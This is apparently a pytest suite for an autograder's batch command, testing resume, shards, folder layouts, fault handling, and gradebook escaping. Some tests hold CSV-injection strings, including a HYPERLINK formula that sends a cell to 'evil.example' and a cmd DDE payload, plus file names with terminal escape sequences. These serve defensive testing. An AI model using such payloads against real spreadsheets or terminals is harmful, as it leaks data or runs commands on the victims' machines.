"""`python -m grader batch`: the same verdicts as one file at a time, resume after Ctrl-C, shards,
layouts, and a grader fault confined to its submission."""

import csv
import hashlib
import io
import json
import os
import re
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

from grader import judge
from grader.batch.command import parse_args, run
from grader.batch.discovery import discover
from grader.batch.exits import UsageError
from grader.batch.gradebook import Counting, write_csv
from grader.batch.stop import Stop
from grader.batch.store import ResultsFile, message_line
from grader.sandbox.backends import choose_backend
from grader.sandbox.zygote import zygote_problem
from grader.spec import Scoring
from tests.grading import ROOT, SUBMISSIONS, grade_json, run_grader

SECRET = {"MLM_GRADER_SEED": "a-class-secret"}  # a batch refuses the fixed local seed unless told otherwise
ONE_OF_EACH = [
    "accepted/plain_helpers",
    "wrong_answer/causal_mask",
    "forbidden_api/plain_torch_softmax",
    "compile_error/syntax_error",
    "invalid_submission/no_entry_point",
    "runtime_error/exit_in_call",
    "time_limit_exceeded/infinite_loop_in_call",
    "memory_limit_exceeded/huge_allocation",
]


def class_folder(folder: Path, names: list[str], prefix: str = "") -> Path:
    folder.mkdir()
    for name in names:
        shutil.copy(SUBMISSIONS / f"{name}.py", folder / f"{prefix}{Path(name).name}.py")
    return folder


def lines_of(path: Path) -> list[dict]:
    return [json.loads(line) for line in path.read_text().splitlines()]


def run_in_process(*argv: str) -> tuple[int, str]:
    """The batch command in this process (no signal handlers: tests may not run on the main thread)."""
    out = io.StringIO()
    status = run(parse_args([*argv, "--allow-default-seed"]), Stop(), out)
    return status, out.getvalue()


def syntax_errors(folder: Path, count: int) -> Path:
    """Submissions graded without starting a child: fast."""
    folder.mkdir()
    for i in range(count):
        (folder / f"student{i:02}.py").write_text(f"def mlm_forward_tied(:  # {i}\n")
    return folder


@pytest.mark.sandbox
def test_batch_gives_the_verdicts_of_the_single_file_command(tmp_path):
    # The real limits: a shorter limit per case would make the verdicts depend on the machine's load.
    folder = class_folder(tmp_path / "class", ONE_OF_EACH)
    out, gradebook = tmp_path / "results.jsonl", tmp_path / "grades.csv"
    result = run_grader("batch", str(folder), "--jobs", "2", "--out", str(out), "--csv", str(gradebook), env=SECRET, timeout=600)
    assert result.returncode == 0, result.stdout + result.stderr
    assert "one file per submission" in result.stdout and "8 submissions:" in result.stdout and "slowest:" in result.stdout

    # One after another, each in a fork of this process (tests/grading.py run_grader): from threads,
    # each would be a new interpreter importing torch beside its child's.
    single = {p.stem: grade_json(str(p), env=SECRET)[0] for p in sorted(folder.glob("*.py"))}
    lines = lines_of(out)
    assert sorted(line["id"] for line in lines) == sorted(single)
    for line in lines:
        alone = single[line["id"]]
        assert line["verdict"] == alone["verdict"], line["id"]
        assert (line["score"], line["message"], line["seed_id"]) == (alone["score"], alone["message"], alone["seed_id"])
        assert [(c["name"], c["status"], c["check"]) for c in line["cases"]] == [(c["name"], c["status"], c["check"]) for c in alone["cases"]]
        assert set(alone) <= set(line)  # the per-case detail of --json, and more
        path = folder / f"{line['id']}.py"
        assert line["submission"] == str(path) and line["sha256"] == hashlib.sha256(path.read_bytes()).hexdigest()
        assert line["grader_version"] == alone["versions"]["grader"]
    assert {Path(name).parent.name for name in ONE_OF_EACH} == {line["verdict"] for line in lines}
    if zygote_problem(choose_backend("auto", secret_seed=True)) is None:  # then the batch graded through the warm pool
        assert all("warm pool" in line["isolation"] for line in lines if line["cases"])  # (a file refused before any case has no child)
        assert not any("warm pool" in alone["isolation"] for alone in single.values())
    with open(gradebook) as f:
        rows = list(csv.reader(f))
    assert rows[0] == ["id", "name", "verdict", "points", "max_points", "cases_passed", "cases", "late", "message"]
    passed = {line["id"]: str(sum(c["status"] == "passed" for c in line["cases"])) for line in lines}
    assert sorted(rows[1:]) == sorted(
        [
            line["id"],
            "",
            line["verdict"],
            "100" if line["verdict"] == "accepted" else "0",
            "100",
            passed[line["id"]],
            str(len(line["cases"])),
            "",
            message_line(line["message"]),
        ]
        for line in lines
    )


def leftovers(token: str) -> list[str]:
    """Processes and cgroups of gradings whose file names carry `token`."""
    found = []
    for entry in Path("/proc").iterdir():
        try:
            if entry.name.isdigit() and token in (entry / "cmdline").read_text():
                found.append(f"process {entry.name}")
        except OSError:
            pass
    found += [str(p) for p in Path("/sys/fs/cgroup").glob(f"*/mlm-grader-{token}*")]
    return found


@pytest.mark.sandbox
def test_a_batch_stopped_with_ctrl_c_resumes_where_it_stopped(tmp_path):
    token = f"resume{os.getpid()}x"
    names = ["accepted/plain_helpers", "wrong_answer/causal_mask", "accepted/einsum_everywhere", "runtime_error/raises_in_call", "wrong_answer/gelu_erf"]
    folder = class_folder(tmp_path / "class", names, prefix=token)
    out = tmp_path / "results.jsonl"
    command = [sys.executable, "-m", "grader", "batch", str(folder), "--jobs", "1", "--out", str(out)]
    process = subprocess.Popen(command, cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=os.environ | SECRET)
    deadline = time.monotonic() + 300
    while not (out.exists() and out.read_text().count("\n") >= 1) and process.poll() is None and time.monotonic() < deadline:
        time.sleep(0.05)
    process.send_signal(signal.SIGINT)
    stdout, stderr = process.communicate(timeout=60)
    assert process.returncode == 128 + signal.SIGINT, stdout + stderr
    assert "stopped by SIGINT" in stdout and "run the same command again" in stdout and "Traceback" not in stderr
    assert leftovers(token) == []
    first = lines_of(out)
    assert 1 <= len(first) < len(names)

    result = run_grader("batch", str(folder), "--jobs", "2", "--out", str(out), env=SECRET)
    assert result.returncode == 0, result.stdout + result.stderr
    assert f"skipped {len(first)} submissions already graded" in result.stdout
    ids = [line["id"] for line in lines_of(out)]
    assert sorted(ids) == sorted(token + Path(name).name for name in names)  # each exactly once

    # A changed file is graded again; its new line, the last for its id, is the one that counts.
    changed = folder / f"{token}raises_in_call.py"
    changed.write_text("def mlm_forward_tied(:\n")
    result = run_grader("batch", str(folder), "--out", str(out), "--csv", str(tmp_path / "grades.csv"), env=SECRET)
    assert result.returncode == 0 and f"skipped {len(names) - 1} submissions" in result.stdout
    last = [line for line in lines_of(out) if line["id"] == changed.stem]
    assert [line["verdict"] for line in last] == ["runtime_error", "compile_error"]
    assert f"{changed.stem},,compile_error,0,100,0,0,," in (tmp_path / "grades.csv").read_text()


@pytest.mark.sandbox
def test_sigterm_ends_a_hanging_grading_at_once_and_leaves_nothing(tmp_path):
    token = f"term{os.getpid()}x"
    folder = class_folder(tmp_path / "class", ["time_limit_exceeded/busy_import", "time_limit_exceeded/infinite_loop_in_call"], prefix=token)
    out = tmp_path / "results.jsonl"
    command = [sys.executable, "-m", "grader", "batch", str(folder), "--jobs", "2", "--out", str(out)]
    process = subprocess.Popen(command, cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=os.environ | SECRET)
    deadline = time.monotonic() + 120
    while not leftovers(token) and time.monotonic() < deadline:  # a child is running (its process, or a warm pool child's cgroup)
        time.sleep(0.05)
    process.send_signal(signal.SIGTERM)
    sent = time.monotonic()
    stdout, stderr = process.communicate(timeout=60)
    # busy_import would hold its job for the 60 s start-up limit, were its child not killed
    assert time.monotonic() - sent < 30 and process.returncode == 128 + signal.SIGTERM, stdout + stderr
    assert "stopped by SIGTERM: 0 of 2 submissions are graded" in stdout
    assert leftovers(token) == [] and out.read_text() == ""


@pytest.mark.sandbox
def test_shards_together_grade_every_submission_once(tmp_path):
    folder = syntax_errors(tmp_path / "class", 9)
    graded = []
    for index in range(3):
        out = tmp_path / f"shard-{index}.jsonl"
        status, text = run_in_process(str(folder), "--shard", f"{index}/3", "--out", str(out))
        assert status == 0 and f"shard {index}/3:" in text
        graded += [line["id"] for line in lines_of(out)]
    assert sorted(graded) == sorted(p.stem for p in folder.glob("*.py"))  # all of them, none twice
    # the same shard again picks the same submissions
    status, _ = run_in_process(str(folder), "--shard", "1/3", "--out", str(tmp_path / "again.jsonl"))
    assert sorted(line["id"] for line in lines_of(tmp_path / "again.jsonl")) == sorted(line["id"] for line in lines_of(tmp_path / "shard-1.jsonl"))


@pytest.mark.parametrize("shard", ["3/3", "-1/3", "1", "a/b", "0/0"])
def test_a_bad_shard_is_a_usage_error(tmp_path, shard):
    with pytest.raises(UsageError, match="INDEX/COUNT"):
        run_in_process(str(syntax_errors(tmp_path / "class", 2)), f"--shard={shard}", "--out", str(tmp_path / "r.jsonl"))


def test_layouts(tmp_path):
    files = syntax_errors(tmp_path / "files", 3)
    (files / "notes.txt").write_text("not a submission")
    found, notes = discover([files])
    assert [s.id for s in found] == ["notes", "student00", "student01", "student02"] and "one file per submission" in notes[0]
    assert [bool(s.not_graded) for s in found] == [True, False, False, False] and "1 not graded" in notes[0]

    folders = tmp_path / "folders"
    for name in ("bob", "alice"):
        (folders / name).mkdir(parents=True)
        (folders / name / "solution.py").write_text("x = 1\n")
    found, notes = discover([folders])
    assert [(s.id, s.path) for s in found] == [("alice", folders / "alice" / "solution.py"), ("bob", folders / "bob" / "solution.py")]
    assert "one folder per submission" in notes[0]
    # a solution.py named directly takes its folder's name, so a shell glob gives the same ids
    assert [s.id for s in discover(sorted(folders.glob("*/solution.py")))[0]] == ["alice", "bob"]


@pytest.mark.sandbox
def test_a_folder_mixing_layouts_is_refused(tmp_path):
    folder = syntax_errors(tmp_path / "class", 2)
    (folder / "carol").mkdir()
    (folder / "carol" / "solution.py").write_text("x = 1\n")
    result = run_grader("batch", str(folder), "--out", str(tmp_path / "r.jsonl"), env=SECRET)
    assert result.returncode == 2 and "mixes two layouts" in result.stderr and "carol/solution.py" in result.stderr
    assert not (tmp_path / "r.jsonl").exists()


@pytest.mark.parametrize("make", ["empty", "duplicate", "missing"])
def test_what_names_no_submission_or_two_alike_is_refused(tmp_path, make):
    (tmp_path / "a").mkdir()
    (tmp_path / "b").mkdir()
    if make == "duplicate":
        for side in ("a", "b"):
            (tmp_path / side / "same.py").write_text("x = 1\n")
    paths = [tmp_path / "a", tmp_path / "b"] if make != "missing" else [tmp_path / "nowhere"]
    with pytest.raises(UsageError, match={"empty": "holds no submission", "duplicate": "two submissions have the id 'same'", "missing": "no such"}[make]):
        discover(paths)


def test_an_unfinished_last_line_is_removed_and_the_file_stays_valid(tmp_path):
    out = tmp_path / "results.jsonl"
    out.write_text(json.dumps({"id": "a", "verdict": "accepted"}) + "\n" + '{"id": "b", "verd')
    results = ResultsFile(out)
    assert set(results.latest) == {"a"} and "unfinished last line" in results.notes[0]
    results.append({"id": "b", "verdict": "wrong_answer"})
    results.close()
    assert [line["id"] for line in lines_of(out)] == ["a", "b"]


def test_a_second_batch_on_the_same_results_file_is_refused(tmp_path):
    first = ResultsFile(tmp_path / "results.jsonl")
    try:
        with pytest.raises(UsageError, match="another batch is writing"):
            ResultsFile(tmp_path / "results.jsonl")
    finally:
        first.close()


@pytest.mark.sandbox
def test_a_grader_fault_is_a_grader_error_line_and_the_batch_goes_on(tmp_path, monkeypatch):
    folder = syntax_errors(tmp_path / "class", 4)
    real_grade = judge.grade

    def faulty(path, *args, **kwargs):
        if path.stem == "student01":
            raise RuntimeError("simulated fault")
        return real_grade(path, *args, **kwargs)

    monkeypatch.setattr(judge, "grade", faulty)
    out = tmp_path / "results.jsonl"
    status, text = run_in_process(str(folder), "--out", str(out), "--jobs", "2")
    assert status == 2 and "grader_error for 1 submissions (student01)" in text
    verdicts = {line["id"]: line["verdict"] for line in lines_of(out)}
    assert verdicts == {"student00": "compile_error", "student01": "grader_error", "student02": "compile_error", "student03": "compile_error"}
    fault = next(line for line in lines_of(out) if line["id"] == "student01")
    assert "not the submission's fault" in fault["message"] and "simulated fault" in fault["message"]

    monkeypatch.setattr(judge, "grade", real_grade)  # the fault is gone: a rerun retries only that one
    status, text = run_in_process(str(folder), "--out", str(out))
    assert status == 0 and "skipped 3 submissions" in text
    assert lines_of(out)[-1]["id"] == "student01" and lines_of(out)[-1]["verdict"] == "compile_error"


@pytest.mark.sandbox
def test_a_batch_needs_a_secret_seed_unless_told_to_use_the_local_one(tmp_path, monkeypatch):
    monkeypatch.delenv("MLM_GRADER_SEED", raising=False)
    folder, out = syntax_errors(tmp_path / "class", 2), tmp_path / "results.jsonl"
    with pytest.raises(UsageError, match="needs a secret seed: set MLM_GRADER_SEED"):
        run(parse_args([str(folder), "--out", str(out)]), Stop(), io.StringIO())
    with pytest.raises(UsageError, match="--seed is empty"):
        run(parse_args([str(folder), "--out", str(out), "--seed="]), Stop(), io.StringIO())
    assert not out.exists()
    status, _ = run_in_process(str(folder), "--out", str(out))  # with --allow-default-seed
    assert status == 0 and all("fixed local seed" in line["warnings"][0] for line in lines_of(out))


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"grade")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tindented", "\rreturn"]


def test_the_gradebook_never_holds_a_formula_or_a_raw_control_character(tmp_path):
    # OWASP's advice on CSV injection: a cell a spreadsheet would read as a formula starts with a quote.
    ids = [*FORMULAS, "plain", "nasty\x1b[2K\ud800"]
    path = tmp_path / "grades.csv"
    done = {i: {"id": i, "verdict": "runtime_error", "message": i, "cases": []} for i in ids}
    write_csv(path, done, Counting(Scoring()))
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))[1:]
    expected = ["'" + i for i in FORMULAS[:5]] + ["'\\x0dreturn", "plain", "nasty\\x1b[2K\ufffd"]
    assert [row[0] for row in rows] == expected
    # The message (its first line, stripped) may quote the submission: never a formula either.
    assert [row[-1] for row in rows] == expected[:4] + ["indented", "return", "plain", "nasty\\x1b[2K\ufffd"]


@pytest.mark.sandbox
def test_ids_a_file_name_chooses_are_inert_in_the_batchs_output_and_gradebook(tmp_path):
    folder = tmp_path / "class"
    folder.mkdir()
    names = ['=HYPERLINK("evil.example","grade")', "-x", "evil\x1b[2K\rVerdict ACCEPTED"]  # no "/" in a file name
    for name in names:
        (folder / f"{name}.py").write_text("def mlm_forward_tied(:\n")  # graded without a child: fast
    with open(os.fsencode(folder) + b"/not-utf8-\xff.py", "w") as f:  # a name that is not UTF-8: a lone surrogate in Python
        f.write("def mlm_forward_tied(:\n")
    out, gradebook = tmp_path / "results.jsonl", tmp_path / "grades.csv"
    status, text = run_in_process(str(folder), "--out", str(out), "--csv", str(gradebook))
    assert status == 0, text
    assert "\x1b" not in text and "\r" not in text and "evil\\x1b[2K\\x0dVerdict ACCEPTED" in text
    assert len(lines_of(out)) == 4
    rows = list(csv.reader(io.StringIO(gradebook.read_text(encoding="utf-8"))))[1:]
    assert sorted(row[0] for row in rows) == sorted(["'" + names[0], "'-x", "evil\\x1b[2K\\x0dVerdict ACCEPTED", "not-utf8-\ufffd"])


@pytest.mark.sandbox
def test_a_results_line_is_for_staff_and_holds_what_the_candidates_report_withholds(tmp_path):
    from tests.test_formats import LEAKER

    folder = tmp_path / "class"
    folder.mkdir()
    (folder / "leaker.py").write_text(LEAKER)
    out = tmp_path / "results.jsonl"
    status, text = run_in_process(str(folder), "--out", str(out))
    assert status == 0, text
    [line] = lines_of(out)
    hidden = [case for case in line["cases"] if case["visibility"] == "hidden"]
    assert hidden and all(case["output"] == "raised an exception (the message of a hidden case is not shown)" for case in hidden)
    assert sorted(line["staff_only"]["cases"]) == sorted(case["name"] for case in hidden)
    assert all("ValueError: LEAK [" in message for message in line["staff_only"]["cases"].values())
    assert "[... what the submission printed once the hidden cases began is not shown]" in line["stdout"]
    assert f"PRINTED call {len(line['cases'])} LEAK" in line["staff_only"]["stdout"]


# --- A class folder as an LMS hands it over: every entry accounted for -------------------------------

SYNTAX_ERROR = "def mlm_forward_tied(:\n"  # graded without starting a child: fast


def lms_download(folder: Path) -> dict[str, str]:
    """A folder per student with every odd entry an LMS download holds; id -> what its row must say."""
    entries = {
        "alice/solution.py": SYNTAX_ERROR,
        "carol/mlm.py": SYNTAX_ERROR,  # the only .py file, under another name: graded
        "dave/a.py": SYNTAX_ERROR,
        "dave/b.py": SYNTAX_ERROR,
        "erin/README.txt": "no Python here\n",
        "frank/Solution.PY": SYNTAX_ERROR,
        "gina/.hidden.py": SYNTAX_ERROR,  # nothing but a hidden file: an empty submission
        "index.html": "<p>the LMS's index</p>\n",
        ".DS_Store": "",
        "__MACOSX/alice/._solution.py": "",
    }
    for name, text in entries.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(text)
    return {
        "alice": "compile_error",
        "carol": "compile_error",
        "dave": "Several Python files were submitted (a.py, b.py)",
        "erin": "No Python file was submitted (found: README.txt)",
        "frank": "rename Solution.PY to solution.py",
        "gina": "the submission is empty",
        "index": "index.html is not graded: it is not a Python file",
    }


@pytest.mark.sandbox
def test_every_entry_of_an_lms_download_is_graded_or_says_why_not(tmp_path):
    folder = tmp_path / "class"
    expected = lms_download(folder)
    out, gradebook = tmp_path / "results.jsonl", tmp_path / "grades.csv"
    status, text = run_in_process(str(folder), "--out", str(out), "--csv", str(gradebook), "--points", "10")
    assert status == 0, text
    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(gradebook.read_text()))}
    assert sorted(rows) == sorted(expected)  # one row per student, none dropped
    for student, says in expected.items():
        row = rows[student]
        if says == "compile_error":
            assert row["verdict"] == "compile_error", row
        else:
            assert row["verdict"] == "invalid_submission" and says in row["message"], row
        assert (row["points"], row["max_points"]) == ("0", "10")
    assert "7 submissions:" in text and "not graded: 5" in text and "ignored: .DS_Store, __MACOSX" in text
    assert all(f"  {student}: " in text for student, says in expected.items() if says != "compile_error")
    graded = {line["id"]: line for line in lines_of(out)}
    assert graded["carol"]["submission"] == str(folder / "carol" / "mlm.py") and "not_graded" not in graded["carol"]
    assert "Several Python files" in graded["dave"]["not_graded"] and graded["dave"]["cases"] == []

    # A rerun writes nothing twice; a student who fixes the folder is graded on the next run.
    status, text = run_in_process(str(folder), "--out", str(out), "--csv", str(gradebook), "--points", "10")
    assert status == 0 and "skipped 7 submissions" in text and len(lines_of(out)) == 7
    (folder / "dave" / "b.py").unlink()
    status, text = run_in_process(str(folder), "--out", str(out))
    assert status == 0 and "skipped 6 submissions" in text and lines_of(out)[-1]["id"] == "dave" and lines_of(out)[-1]["verdict"] == "compile_error"


@pytest.mark.sandbox
def test_a_flat_folder_reports_other_extensions_and_ignores_the_batchs_own_files(tmp_path):
    folder = syntax_errors(tmp_path / "class", 2)
    (folder / "bob.PY").write_text(SYNTAX_ERROR)
    (folder / "carol.py.txt").write_text(SYNTAX_ERROR)
    (folder / "student00.zip").write_text("")  # its id is taken: the whole name stands for it
    out, gradebook, feedback = folder / "results.jsonl", folder / "grades.csv", folder / "feedback"  # run from the class folder
    for _ in range(2):
        status, text = run_in_process(str(folder), "--out", str(out), "--csv", str(gradebook), "--feedback", str(feedback))
        assert status == 0, text
    assert "ignored: feedback, grades.csv, results.jsonl" in text
    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(gradebook.read_text()))}
    assert sorted(rows) == ["bob", "carol", "student00", "student00.zip", "student01"]
    assert "its name ends in .PY, not .py; rename it bob.py" in rows["bob"]["message"]
    assert "carol.py.txt is not graded: it is not a Python file" in rows["carol"]["message"]


@pytest.mark.sandbox
def test_a_merge_counts_entries_not_graded_as_the_batch_does(tmp_path):
    from grader import merge

    folder = tmp_path / "class"
    lms_download(folder)
    files = []
    for index in range(2):
        files.append(tmp_path / f"shard-{index}.jsonl")
        assert run_in_process(str(folder), "--shard", f"{index}/2", "--out", str(files[-1]))[0] == 0
    log = io.StringIO()
    assert merge.merge(files, tmp_path / "merged.jsonl", tmp_path / "merged.csv", log) == 0
    assert "not graded: 5" in log.getvalue()
    single = tmp_path / "single.csv"
    assert run_in_process(str(folder), "--out", str(tmp_path / "single.jsonl"), "--csv", str(single))[0] == 0
    assert (tmp_path / "merged.csv").read_text() == single.read_text()


def without_timings(text: str, fmt: str) -> str:
    """A report with what differs between two gradings of one file blanked: its timings and the
    isolation's note on the warm pool."""
    if fmt in ("gradescope", "json"):
        data = json.loads(text)
        data.pop("execution_time", None), data.pop("seconds", None), data.get("extra_data", {}).pop("isolation", None), data.pop("isolation", None)
        for case in data.get("cases", []):
            case["seconds"] = None
        return json.dumps(data, sort_keys=True)
    return re.sub(r" *\d+ms|\d+\.\d+s|isolation: [^\n]*|time=\"[\d.]+\"", "T", text)


@pytest.mark.sandbox
@pytest.mark.parametrize("fmt", ["text", "gradescope"])
def test_feedback_files_are_the_single_file_commands_reports_and_resume(tmp_path, fmt):
    folder = class_folder(tmp_path / "class", ["wrong_answer/causal_mask", "compile_error/syntax_error"])
    (folder / "notes.txt").write_text("not a submission\n")
    out, feedback = tmp_path / "results.jsonl", tmp_path / "feedback"
    options = ["--format", fmt, "--points", "10"]
    result = run_grader("batch", str(folder), "--out", str(out), "--feedback", str(feedback), *options, env=SECRET)
    assert result.returncode == 0, result.stdout + result.stderr
    suffix = {"text": ".txt", "gradescope": ".json"}[fmt]
    assert sorted(p.name for p in feedback.iterdir()) == [f"causal_mask{suffix}", f"notes{suffix}", f"syntax_error{suffix}"]
    for name in ("causal_mask", "syntax_error"):
        single = tmp_path / f"single{suffix}"
        alone = run_grader(str(folder / f"{name}.py"), *options, "--output", str(single), env=SECRET)
        assert alone.returncode == 1, alone.stderr
        assert without_timings((feedback / f"{name}{suffix}").read_text(), fmt) == without_timings(single.read_text(), fmt), name
    assert "notes.txt is not graded" in (feedback / f"notes{suffix}").read_text()

    # Resumable: a file lost, or a batch first run without --feedback, is written from the results file.
    before = {p.name: without_timings(p.read_text(), fmt) for p in feedback.iterdir()}  # (a results line keeps ms to 0.1)
    (feedback / f"causal_mask{suffix}").unlink()
    status, text = run_in_process(str(folder), "--out", str(out), "--feedback", str(feedback), *options, "--seed", SECRET["MLM_GRADER_SEED"])
    assert status == 0 and "skipped 3 submissions" in text and "3 of them from earlier runs' results" in text
    assert {p.name: without_timings(p.read_text(), fmt) for p in feedback.iterdir()} == before


@pytest.mark.sandbox
def test_an_id_from_a_hostile_file_name_is_inert_in_the_results_file_and_the_gradebook(tmp_path):
    # A red team's attack on the batch: a file named with terminal
    # control sequences and a byte that is not UTF-8 (a lone surrogate once decoded).
    folder = tmp_path / "class"
    folder.mkdir()
    raw = os.fsencode("\x1b]0;owned\x07\x1b[2J=HYPERLINK(1)") + b"\xff.py"
    (folder / os.fsdecode(raw)).write_bytes(b"def mlm_forward_tied(:\n")  # a compile error: no child needed
    out, gradebook = tmp_path / "results.jsonl", tmp_path / "grades.csv"
    code, printed = run_in_process(str(folder), "--out", str(out), "--csv", str(gradebook), "--jobs", "1", "--allow-default-seed")
    assert code == 0, printed
    raw_line = out.read_bytes()
    raw_line.decode("utf-8")  # every byte of the results file is UTF-8
    [line] = lines_of(out)
    assert line["id"] == "\\x1b]0;owned\\x07\\x1b[2J=HYPERLINK(1)\ufffd" and line["verdict"] == "compile_error"
    assert "\x1b" not in printed and "\x1b" not in gradebook.read_text()
    code, printed = run_in_process(str(folder), "--out", str(out), "--jobs", "1", "--allow-default-seed")
    assert code == 0 and "skipped 1" in printed, printed  # the escaped id is the key a rerun finds
